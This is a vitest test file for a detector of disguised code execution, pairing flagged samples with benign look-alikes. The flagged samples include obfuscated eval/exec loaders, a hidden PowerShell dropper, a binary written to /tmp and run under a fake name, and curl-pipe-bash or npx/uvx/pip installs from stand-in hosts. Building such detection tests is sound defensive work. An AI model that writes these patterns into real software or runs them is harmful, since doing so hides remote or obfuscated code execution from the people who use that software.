import { describe, expect, test } from "vitest";
import { judged } from "./judged-code.ts";

const HELD: [string, string][] = [
  [
    "a.ts",
    'import { Script } from "node:vm";\nconst t = "pbafbyr.ybt(1)";\nfunction rot(s: string) {\n  return s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));\n}\nnew Script(rot(t)).runInThisContext();\n',
  ],
  [
    "b.js",
    "const back = (s) => [...s].map((c) => String.fromCharCode(c.charCodeAt(0) - 3)).join('');\nfunction go(x) { eval(back(x)); }\ngo(require('./words').list);\n",
  ],
  [
    "c.py",
    'def measure(cls):\n    bits = "".join("1" if c == "\\t" else "0" for c in cls.__doc__)\n    text = "".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits) - 7, 8))\n    exec(text)\n',
  ],
  ["d.py", 'def shift(s):\n    return "".join(chr(ord(c) - 1) for c in s)\ndef run(w):\n    eval(shift(w))\n'],
  [
    "f.ps1",
    "$b = [Convert]::FromBase64String($z)\n$f = Join-Path $env:APPDATA 'zones.exe'\n[IO.File]::WriteAllBytes($f, $b)\nStart-Process $f -WindowStyle Hidden\n",
  ],
  [
    "h.py",
    'import gzip, os\nP = f"/tmp/.w-{os.getuid()}"\nopen(P, "wb").write(gzip.decompress(bytes.fromhex("1f8b08" + "00" * 120)))\nos.execv(P, ["aspell"])\n',
  ],
  [
    "i.js",
    'const { execFileSync } = require("child_process");\nexecFileSync("npx", ["--yes", "--package", "https://pkg.rules.example/r.tgz", "lint-rules"]);\n',
  ],
  ["j.py", 'import subprocess\nsubprocess.run(["uvx", "--from", "git+https://src.rules.example/r.git", "rules"])\n'],
  [
    "k.py",
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--trusted-host", "w.charts.example", "--index-url", "https://w.charts.example/simple/", "theme"])\n',
  ],
  ["l.sh", 'G=curl\nS=bash\nhome=https://get.notes.example\n"$G" -fsSL "$home/v3" | "$S" -s\n'],
  [
    "o.py",
    "import importlib.abc, base64\nclass L(importlib.abc.Loader):\n    def exec_module(self, m):\n        exec(base64.b85decode(open('w.txt').read()), m.__dict__)\n",
  ],
];

const HONEST: [string, string][] = [
  [
    "a.ts",
    'export function rot(s: string) {\n  return s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));\n}\nconsole.log(rot("hello"));\n',
  ],
  [
    "b.js",
    "const back = (s) => [...s].map((c) => String.fromCharCode(c.charCodeAt(0) - 3)).join('');\nconst vm = require('vm');\nconsole.log(back('abc'), vm.runInNewContext('1 + 1'));\n",
  ],
  [
    "c.py",
    'def decode(bits):\n    text = "".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8))\n    return text\nprint(decode("01000001"))\n',
  ],
  ["d.py", 'def shift(s):\n    return "".join(chr(ord(c) - 1) for c in s)\nprint(shift("b"), eval("1 + 1"))\n'],
  ["e.ps1", "$p = [Diagnostics.ProcessStartInfo]@{ FileName = 'git.exe'; Arguments = \"-e $mode\" }\n"],
  [
    "f.ps1",
    "$b = [Convert]::FromBase64String($z)\n[IO.File]::WriteAllBytes($picture, $b)\nStart-Process notepad.exe $notes\n",
  ],
  ["h.py", "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)\n"],
  [
    "i.js",
    'const { execFileSync } = require("child_process");\nexecFileSync("npx", ["--yes", "lighthouse", "https://pages.notes.example/a.html"]);\n',
  ],
  ["j.py", 'import subprocess\nsubprocess.run(["uvx", "--from", "git+https://github.com/notes/rules.git", "rules"])\n'],
  [
    "k.py",
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.corp.example/simple/", "theme"])\n',
  ],
  ["l.sh", 'G=git\nP=less\n"$G" log --oneline | "$P" -R\n'],
  [
    "m.py",
    "import importlib.abc\nclass Plain(importlib.abc.SourceLoader):\n    def get_filename(self, n):\n        return n\n    def get_data(self, path):\n        return open(path, 'rb').read()\n",
  ],
  ["n.py", "import yaml, base64\nclass Strict(yaml.SafeLoader):\n    pass\nprint(base64.b64decode('YQ=='))\n"],
  [
    "o.py",
    "from cryptography.fernet import Fernet\nclass Vault:\n    def get_data(self, path):\n        return Fernet(self.key).decrypt(open(path, 'rb').read())\n",
  ],
];

describe("a text that is written down as another one, and what is fetched under other names", () => {
  test.each(HELD)("%s is held: %s", async (path, text) => {
    const { held, found } = await judged({ [path]: text });
    expect(held.length, `${found.join("\n")}\n${text}`).toBeGreaterThan(0);
  });

  test.each(HONEST)("%s is not: %s", async (path, text) => {
    expect((await judged({ [path]: text })).held, text).toEqual([]);
  });
});
